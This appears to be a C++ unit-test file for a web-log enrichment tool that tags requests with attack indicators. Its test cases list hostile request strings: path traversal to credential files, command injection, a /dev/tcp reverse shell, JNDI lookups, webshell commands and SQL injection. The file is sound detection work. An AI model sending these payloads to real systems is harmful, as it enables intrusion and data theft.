#include "enrich/indicators.h"

#include <fstream>
#include <iterator>

#include "absl/strings/str_cat.h"
#include "enrich/event_builder.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace sequitur::enrich {
namespace {

namespace field = event::field;
using ::testing::HasSubstr;

std::vector<IndicatorSpec> Shipped() {
  const std::string path = std::string(SEQUITUR_SOURCE_DIR) + "/config/indicators.yaml";
  std::ifstream file(path, std::ios::binary);
  const std::string text{std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>()};
  Diagnostics diagnostics;
  auto specs = ParseIndicators(text, path, diagnostics);
  for (const Diagnostic& each : diagnostics) ADD_FAILURE() << each.ToString();
  return specs.value_or(std::vector<IndicatorSpec>());
}

const IndicatorSet& Set() {
  static const auto* set = new IndicatorSet(Shipped());
  return *set;
}

class IndicatorsTest : public ::testing::Test {
 protected:
  IndicatorsTest() : event_(AllFields()), indicators_(Set()) {}

  std::string Of(absl::string_view method, absl::string_view target,
                 absl::string_view agent = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
                 absl::string_view referrer = "") {
    EventBuilder(event_, "web", "http_request", 0)
        .Text(field::kHttpRequestMethod, method)
        .Text(field::kUrlOriginal, target)
        .Text(field::kUserAgentOriginal, agent)
        .Text(field::kHttpRequestReferrer, referrer);
    indicators_.Enrich(event_);
    return event_.Get(field::kSequiturIndicators).ToString();
  }

  event::Event event_;
  Indicators indicators_;
};

TEST_F(IndicatorsTest, RememberWhatTheySawAndMixNothingUp) {
  const std::string targets[] = {"/", "/?f=../../etc/passwd", "/ping?host=x;id",
                                 "/" + std::string(600, 'a') + "?f=../../etc/passwd"};
  const absl::string_view methods[] = {"GET", "PUT", "TRACE"};
  const absl::string_view agents[] = {"Mozilla/5.0", "sqlmap/1.7", "-"};
  size_t with = 0;
  // More targets than are remembered, each some time again.
  for (int i = 0; i < 5'000; ++i) {
    const std::string target = absl::StrCat(targets[i % 4], "&n=", i % 1'500);
    const absl::string_view method = methods[i % 3], agent = agents[i / 7 % 3];
    const std::string remembered = Of(method, target, agent);
    Indicators(Set()).Enrich(event_);
    ASSERT_EQ(remembered, event_.Get(field::kSequiturIndicators).ToString()) << target;
    with += remembered.find("path_traversal") != remembered.npos ? 1 : 0;
  }
  EXPECT_EQ(with, 2'500u);
}

TEST_F(IndicatorsTest, NameAttacks) {
  const struct {
    absl::string_view method, target, indicator;
  } kCases[] = {
      {"GET", "/../../etc/passwd", "path_traversal"},
      {"GET", "/static/..%2f..%2f..%2fetc/shadow", "path_traversal"},
      {"GET", "/%2e%2e/%2e%2e/x", "path_traversal"},
      {"GET", "/%252e%252e%252fx", "path_traversal"},
      {"GET", "/a/..;/manager/html", "path_traversal"},
      {"GET", "/cgi-bin/.%2e/.%2e/bin/sh", "path_traversal"},
      {"GET", "/cgi-bin/%%32%65%%32%65/x", "path_traversal"},
      {"GET", "/x/..%c0%af..%c0%afboot.ini", "path_traversal"},
      {"GET", "/?f=..\\..\\windows\\win.ini", "path_traversal"},
      {"GET", "/?file=/etc/passwd", "sensitive_file"},
      {"GET", "/?page=%2Fproc%2Fself%2Fenviron", "sensitive_file"},
      {"GET", "/?p=php://filter/convert.base64-encode/resource=index", "php_stream"},
      {"GET", "/?p=data:text/plain,<?php", "php_stream"},
      {"GET", "/?u=file:///x", "php_stream"},
      {"GET", "/ping?host=127.0.0.1;id", "command_injection"},
      {"GET", "/ping?host=127.0.0.1%3Bid", "command_injection"},
      {"GET", "/ping?host=127.0.0.1%253Bid", "command_injection"},
      {"GET", "/ping?host=x%0Awhoami", "command_injection"},
      {"GET", "/ping?host=x|/bin/cat+/x", "command_injection"},
      {"GET", "/ping?host=$(curl+x)", "command_injection"},
      {"GET", "/ping?host=%60uname%60", "command_injection"},
      {"GET", "/x?a=bash+-i+>%26+/dev/tcp/1.2.3.4/9", "command_injection"},
      {"GET", "/x?a=osascript+-e+1", "command_injection"},
      {"GET", "/x?a=%26%26curl${IFS}x", "command_injection"},
      {"GET", "/s.php?cmd=id", "webshell_command"},
      {"GET", "/s.php?c=whoami", "webshell_command"},
      {"GET", "/s.php?x=eval(base64_decode('x'))", "webshell_command"},
      {"GET", "/c99.php", "webshell_command"},
      {"PUT", "/a/shell.jsp", "webshell_upload"},
      {"PUT", "/a/shell.php%00.jpg", "webshell_upload"},
      {"PUT", "/shell.jsp/", "webshell_upload"},
      {"GET", "/uploads/2026/11/a.php?x=1", "webshell_upload"},
      {"GET", "/up/pic.php.jpg", "double_extension"},
      {"GET", "/up/pic.jpg.phtml", "double_extension"},
      {"POST", "/index.php", "script_post"},
      {"POST", "/api/upload", "upload_post"},
      {"GET", "/?x=${jndi:ldap://x/a}", "jndi"},
      {"GET", "/?x=$%7Bjndi:ldap://x/a%7D", "jndi"},
      {"GET", "/?x=${${lower:j}ndi:ldap://x}", "jndi"},
      {"GET", "/?x=${${::-j}${::-n}di:ldap://x}", "jndi"},
      {"POST", "/?class.module.classLoader.resources=x", "spring_classloader"},
      {"GET", "/%24%7B(%23a%3D1)%7D", "ognl_injection"},
      {"GET", "/?n={{7*7}}", "template_injection"},
      {"GET", "/?n={{config.__class__}}", "template_injection"},
      {"POST", "/?%ADd+allow_url_include%3d1", "php_cgi_argument"},
      {"GET", "/index.php?-s", "php_cgi_argument"},
      {"GET", "/?id=1'+or+'1'='1", "sql_injection"},
      {"GET", "/?id=1%20UNION%20ALL%20SELECT%201,2", "sql_injection"},
      {"GET", "/?id=1/**/union/**/select/**/1", "sql_injection"},
      {"GET", "/?id=1+and+1=1", "sql_injection"},
      {"GET", "/?id=1;select+sleep(5)", "sql_injection"},
      {"GET", "/?o=rO0ABXNyABFq", "deserialisation"},
      {"GET", "/?o=O:8:%22stdClass%22", "deserialisation"},
      {"TRACE", "/", "unusual_method"},
      {"DEBUG", "/", "unusual_method"},
      {"PROPFIND", "/", "unusual_method"},
      {"get", "/", "unusual_method"},
      {"DELETE", "/x", "write_method"},
      {"GET", "/.env", "sensitive_probe"},
      {"GET", "/.git/config", "sensitive_probe"},
      {"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "sensitive_probe"},
      {"GET", "/HNAP1/", "sensitive_probe"},
      {"GET", "/manager/html", "sensitive_probe"},
      {"\x16\x03\x01", "", "binary_request"},
      {"GET", "/\x90\x90", "binary_request"},
  };
  for (const auto& each : kCases) {
    EXPECT_THAT(Of(each.method, each.target), HasSubstr(std::string(each.indicator)))
        << each.method << " " << each.target;
  }
}

TEST_F(IndicatorsTest, LeaveOrdinaryRequestsAlone) {
  for (const absl::string_view target : {
           "/",
           "/index.html",
           "/index.php",
           "/index.php?id=12&page=3",
           "/a/b/c.js?v=1.2.3..4",
           "/compare/v1.0...v1.1",
           "/search?q=select+a+hotel",
           "/search?q=union+square",
           "/search?q=cats+%26+dogs",
           "/search?q=rock%20%26%20roll",
           "/search?q=id+card",
           "/search?q=how+to+use+curl",
           "/matrix;color=red;size=9/x",
           "/a;jsessionid=1A2B",
           "/list?sort=name|asc",
           "/tags?t=a|b|c",
           "/wiki/Passwd",
           "/wiki/Etc/hosts_and_guests",
           "/img/logo.min.png",
           "/jquery-3.7.1.min.js",
           "/photo.of.cat.jpg",
           "/uploads/2026/a.jpg",
           "/uploads/report.pdf",
           "/api/v1/users/42?fields=id,name",
           "/?redirect=https://x.test/a",
           "/?q=O'Reilly",
           "/?q=5%25+off",
           "/?q=100%",
           "/?price=%24100",
           "/?t=12:30",
           "/blog/c-sharp",
           "/?c=red&cmd=view&q=running",
           "/?e=5",
           "/?code=abc123&state=x",
           "/caf%C3%A9",
           "/?q=%E2%9C%93",
           "/?filter={name}",
           "/?tpl={{name}}",
           "/?a[]=1&a[]=2",
           "/?data=eyJhIjoxfQ==",
           "/oauth?response_type=code&client_id=x",
           "/shop/sh-100",
           "/products/cat/12",
           "/?q=drop+table+saw",
           "/?q=this+or+that",
           "/environment",
           "/gitlab",
           "/solr-lamps",
           "/?next=/cart;/checkout",
           "/?q=ls",
           "/docs/id",
           "/?x=a&id=7",
           "/?q=a;b",
           "/?sql=1",
           "/evaluate(this)",
           "/medium/1.5",
           "/?d=2026-11-24T10:00:00+01:00",
       }) {
    EXPECT_EQ(Of("GET", target), "null") << target;
  }
  EXPECT_EQ(Of("POST", "/login"), "null");
  EXPECT_EQ(Of("HEAD", "/"), "null");
  EXPECT_EQ(Of("OPTIONS", "*"), "null");
  EXPECT_EQ(Of("PATCH", "/api/users/1"), "null");
}

TEST_F(IndicatorsTest, TellScannersFromTools) {
  EXPECT_EQ(Of("GET", "/", "sqlmap/1.8#stable (https://sqlmap.org)"), "[scanner_user_agent]");
  EXPECT_EQ(Of("GET", "/", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
            "[scanner_user_agent]");
  EXPECT_EQ(Of("GET", "/", "Mozilla/5.0 zgrab/0.x"), "[scanner_user_agent]");
  EXPECT_EQ(Of("GET", "/", "curl/8.7.1"), "[tool_user_agent]");
  EXPECT_EQ(Of("GET", "/", "python-requests/2.32"), "[tool_user_agent]");
  EXPECT_EQ(Of("GET", "/", "-"), "[empty_user_agent]");
  EXPECT_EQ(Of("GET", "/", ""), "null");  // a log without that column
  EXPECT_EQ(Of("GET", "/", "${jndi:ldap://x}"), "[jndi]");
  EXPECT_EQ(Of("GET", "/", "() { :;}; echo x"), "[shellshock]");
  EXPECT_EQ(Of("GET", "/", "Mozilla/5.0 (X11) Firefox/128.0", "${jndi:dns://x}"), "[jndi]");
}

TEST_F(IndicatorsTest, AreSortedAndEachOnce) {
  EXPECT_EQ(Of("PUT", "/uploads/../../etc/passwd/x.php?cmd=id;id", "curl/8"),
            "[command_injection, path_traversal, script_post, sensitive_file, tool_user_agent, "
            "upload_post, webshell_command, webshell_upload, write_method]");
}

TEST_F(IndicatorsTest, JudgeErrorRecordsToo) {
  const auto error = [&](absl::string_view message, absl::string_view target = "") {
    EventBuilder(event_, "web", "upstream_error", 0)
        .Text(field::kEventType, "error")
        .Text(field::kMessage, message)
        .Text(field::kUrlOriginal, target);
    indicators_.Enrich(event_);
    return event_.Get(field::kSequiturIndicators).ToString();
  };
  EXPECT_EQ(error("AH10244: invalid URI path (/cgi-bin/.%2e/x)"), "[path_traversal]");
  EXPECT_EQ(error("sh: 1: foo: not found"), "[shell_error_output]");
  EXPECT_EQ(error("open() failed, client: 192.0.2.1, server: x, request: \"GET /?a=;id HTTP/1.1\""),
            "[command_injection]");
  EXPECT_EQ(error("upstream timed out", "/../../x"), "[path_traversal]");
  EXPECT_EQ(error("upstream timed out", "/x"), "null");
  EXPECT_EQ(error("script '/var/www/x.php' not found or unable to stat"), "null");
}

TEST_F(IndicatorsTest, ReadPathAndQueryWhereNoTargetIs) {
  EventBuilder(event_, "web", "http_request", 0)
      .Text(field::kUrlPath, "/ping")
      .Text(field::kUrlQuery, "host=x;id");
  indicators_.Enrich(event_);
  EXPECT_EQ(event_.Get(field::kSequiturIndicators).ToString(), "[command_injection]");
}

TEST_F(IndicatorsTest, LookAtWebEventsOnly) {
  EventBuilder(event_, "network", "network_flow", 0).Text(field::kUrlOriginal, "/../../x");
  indicators_.Enrich(event_);
  EXPECT_FALSE(event_.Has(field::kSequiturIndicators));
}

TEST_F(IndicatorsTest, StayWithinTheirBudgetOnLongTargets) {
  std::string target = "/";
  for (int i = 0; i < 40'000; ++i) absl::StrAppend(&target, "%2", i % 10, "${{.");
  EXPECT_THAT(Of("GET", target), HasSubstr("long_target"));
  EXPECT_EQ(indicators_.stats().over_budget, 0u);
}

TEST(IndicatorsYaml, ReportsMistakesWithTheirPlace) {
  const struct {
    absl::string_view yaml, message;
  } kCases[] = {
      {"indicators:\n  - {name: a, target: ['(']}\n", "regular expression"},
      {"indicators:\n  - {name: a, target: ['x*']}\n", "empty text"},
      {"indicators:\n  - {name: a}\n", "never"},
      {"indicators:\n  - {target: [x]}\n", "name"},
      {"indicators:\n  - {name: a, user_agents: [x]}\n", "user_agent"},
  };
  for (const auto& each : kCases) {
    Diagnostics diagnostics;
    EXPECT_FALSE(ParseIndicators(each.yaml, "i.yaml", diagnostics)) << each.yaml;
    std::string all;
    for (const Diagnostic& diagnostic : diagnostics) all += diagnostic.ToString();
    EXPECT_THAT(all, HasSubstr(std::string(each.message))) << each.yaml;
    EXPECT_THAT(all, HasSubstr("i.yaml:2:")) << each.yaml;
  }
}

TEST(RequestForms, DecodesOnceAndTwice) {
  RequestForms forms;
  forms.Set("/a%252fb?x+y");
  EXPECT_EQ(forms.text(), "/a%252fb?x+y\x01\n/a%2fb?x y\x01\n/a/b?x y\x01\n");
  forms.Set("/plain+path");
  EXPECT_EQ(forms.text(), "/plain+path\x01\n");
  forms.Set("/%zz%2%u002e%");
  EXPECT_EQ(forms.text(), "/%zz%2%u002e%\x01\n/%zz%2.%\x01\n");
}

TEST(IsBinary, TellsGarbageFromUtf8) {
  EXPECT_FALSE(IsBinary("/caf\xc3\xa9"));
  EXPECT_TRUE(IsBinary("\x16\x03\x01"));
  EXPECT_TRUE(IsBinary("/\xff"));
  EXPECT_TRUE(IsBinary("/\xc3"));
  EXPECT_FALSE(IsBinary(""));
}

}  // namespace
}  // namespace sequitur::enrich
